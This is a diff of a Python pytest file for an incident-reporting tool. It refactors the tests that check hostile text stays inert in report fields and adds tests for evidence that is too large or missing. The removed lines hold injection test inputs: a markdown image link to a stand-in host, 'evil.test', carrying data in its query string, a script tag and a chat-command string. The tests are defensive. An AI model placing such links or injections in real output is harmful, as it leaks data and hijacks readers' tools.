@@ -10,10 +10,9 @@ from pathlib import Path
 import pytest
 from jsonschema import Draft202012Validator
 from markdown_it import MarkdownIt
-from pydantic import BaseModel
 from typing_extensions import override
 
-from inquest.destinations.shared.bundle import MANIFEST, folder_files
+from inquest.destinations.shared.bundle import MANIFEST, evidence_that_fits, folder_files
 from inquest.destinations.shared.escape import is_plain_word
 from inquest.destinations.shared.sheet import Sheet, report_schema, written
 from inquest.domain.delivery import RevisionKind
@@ -23,11 +22,10 @@ from inquest.domain.signals import Logs
 from inquest.stages.report import EpisodeNow, ReportInputs, build_report
 from inquest.stages.verdict import conclude
 from tests.builders import Shelf, alert, at, episode, logs, matrix, series
+from tests.destinations.hostile import HOSTILE, hostile_report
 from tests.incident import basis, incident_shelf, proposal
 from tests.reports import HOSTS, episode_now, report_inputs, whole_report
 
-ROWS = [json.loads(line) for line in Path("tests/data/cases/injection.jsonl").read_text("utf-8").splitlines()]
-HOSTILE = [*(row["text"] for row in ROWS), "![](https://evil.test/?d=S)", "@all /close <script>x</script> [a](//b)"]
 SCHEMA = Path("docs/reference/report.schema.json")
 SECTIONS = [
     "What happened and since when",
@@ -214,43 +212,12 @@ def test_the_course_of_the_cited_series_is_drawn_with_the_onset() -> None:
 # ---- hostile text in every field -------------------------------------------------------------------------
 
 
-def poisoned(value: object, text: str) -> object:
-    """Put `text` into every free text of a value; enums, digests, ids and shapes stay as they are."""
-    match value:
-        case BaseModel():
-            names = [name for name in type(value).model_fields if name not in KEPT]
-            return value.model_copy(update={name: poisoned(getattr(value, name), text) for name in names})
-        case tuple():
-            return tuple(poisoned(one, text) for one in value)
-        case list():
-            return [poisoned(one, text) for one in value]
-        case dict():
-            return {key: one if key in KEPT else poisoned(one, text) for key, one in value.items()}
-        case str() if type(value) is str:
-            return text
-        case _:
-            return value
-
-
-KEPT = {
-    "type", "kind", "status", "verdict", "evidence", "observation_id", "content_digest", "digest", "pointer",
-    "terminal_digest", "signature", "investigation_id", "how", "risk", "signal", "code", "trust", "judgement", "state",
-    "episode_state", "effect_key", "form", "message", "error",
-}  # fmt: skip
-
-
 @pytest.mark.parametrize("text", HOSTILE)
 def test_hostile_text_is_inert_in_every_field_of_every_form(text: str) -> None:
     shelf = incident_shelf()
-    report = whole_report(shelf)
-    hostile = poisoned(report, text)
-    assert isinstance(hostile, Report)
-    items = tuple(
-        item.model_copy(update={"name": kept.name})
-        for item, kept in zip(hostile.evidence, report.evidence, strict=True)
-    )
+    hostile = hostile_report(text, shelf)
     assert hostile.title == text
-    assert_inert(hostile.model_copy(update={"evidence": items}), shelf)
+    assert_inert(hostile, shelf)
 
 
 @pytest.mark.parametrize("text", HOSTILE)
@@ -333,6 +300,35 @@ def test_what_is_cited_goes_in_first_whatever_its_place(monkeypatch: pytest.Monk
     report = whole_report(shelf, evidence=tuple(reversed(shelf.evidence)))
     sheet = Sheet.parse(folder_files(report, shelf.contents, HOSTS, None)["report.json"])
     assert [one.evidence for one in sheet.left_out] == ["E5"]  # nobody cites it
+
+
+def test_what_is_too_large_is_told_apart_from_what_is_missing(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("inquest.destinations.shared.bundle.MAX_EVIDENCE_FILES", 4)
+    shelf = incident_shelf()
+    report = whole_report(shelf)
+    read = {digest: shelf.contents[digest] for digest in evidence_that_fits(report)[1:]}
+    sheet = Sheet.parse(folder_files(report, read, HOSTS, None)["report.json"])
+    assert [(one.evidence, one.why) for one in sheet.left_out] == [("E1", "missing"), ("E5", "too_large")]
+
+
+def test_a_content_that_is_larger_than_it_was_said_to_be_takes_no_room_from_others(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    shelf = incident_shelf()
+    report = whole_report(shelf)
+    monkeypatch.setattr(
+        "inquest.destinations.shared.bundle.MAX_EVIDENCE_BYTES", sum(len(raw) for raw in shelf.contents.values())
+    )
+    first = report.evidence[0].observation.digest
+    vast = {**shelf.contents, first: bytes(1_000_000)}
+    sheet = Sheet.parse(folder_files(report, vast, HOSTS, None)["report.json"])
+    assert [(one.evidence, one.why, one.size) for one in sheet.left_out] == [("E1", "too_large", 1_000_000)]
+
+
+def test_the_contents_that_fit_are_each_named_once() -> None:
+    shelf = incident_shelf()
+    report = whole_report(shelf, evidence=(*shelf.evidence, shelf.evidence[0].but(name="E9")))
+    assert sorted(evidence_that_fits(report)) == sorted(shelf.contents)
 
 
 # ---- the schema ------------------------------------------------------------------------------------------
